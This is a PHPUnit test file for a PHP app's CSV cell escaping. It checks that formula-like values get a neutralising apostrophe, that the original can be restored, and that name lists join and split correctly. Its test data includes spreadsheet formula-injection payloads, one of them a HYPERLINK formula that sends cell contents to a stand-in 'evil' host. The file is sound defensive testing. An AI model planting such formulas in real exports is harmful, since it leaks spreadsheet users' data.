<?php

declare(strict_types=1);

// SPDX-FileCopyrightText: 2026 Verband contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

namespace OCA\Verband\Tests\Gliederung\Csv;

use OCA\Verband\Gliederung\Csv\Cell;
use PHPUnit\Framework\Attributes\DataProvider;
use PHPUnit\Framework\TestCase;

final class CellTest extends TestCase {
	/** @return iterable<string, array{string}> QUALITY C2 and what could undo it */
	public static function formulas(): iterable {
		foreach ([
			'=HYPERLINK("http://evil?"&A1)', '+1', '-1', '@SUM(1)', "\t=1", "\r=1", '"=1', "'=1", "''=1", "'\"+1", '=', '-',
		] as $formula) {
			yield addcslashes($formula, "\t\r") => [$formula];
		}
	}

	#[DataProvider('formulas')]
	public function testAFormulaIsWrittenWithAnApostropheThatComesOffAgain(string $formula): void {
		$written = Cell::harmless($formula);

		self::assertSame("'" . $formula, $written);
		self::assertSame($formula, Cell::original($written));
		self::assertSame('"' . str_replace('"', '""', $written) . '"', Cell::write($formula));
	}

	/** @return iterable<string, array{string}> */
	public static function plain(): iterable {
		foreach (['', 'Gifhorn', "'s-Hertogenbosch", "'", '"Zitat"', "O'Neill", 'a=b', '5', "'5"] as $text) {
			yield $text === '' ? 'nothing' : $text => [$text];
		}
	}

	#[DataProvider('plain')]
	public function testWhatIsNoFormulaIsLeftAlone(string $text): void {
		self::assertSame($text, Cell::harmless($text));
		self::assertSame($text, Cell::original($text));
	}

	public function testNamesAreJoinedInOneOrderAndSplitAgain(): void {
		self::assertSame('Anna | Ben', Cell::join(['Ben', 'Anna']));
		self::assertSame(['Anna', 'Ben'], Cell::split(' Anna|Ben | '));
		self::assertSame([], Cell::split(' | '));
		self::assertSame(['Anna/Ben'], Cell::split(Cell::join(['Anna|Ben'])));
	}
}
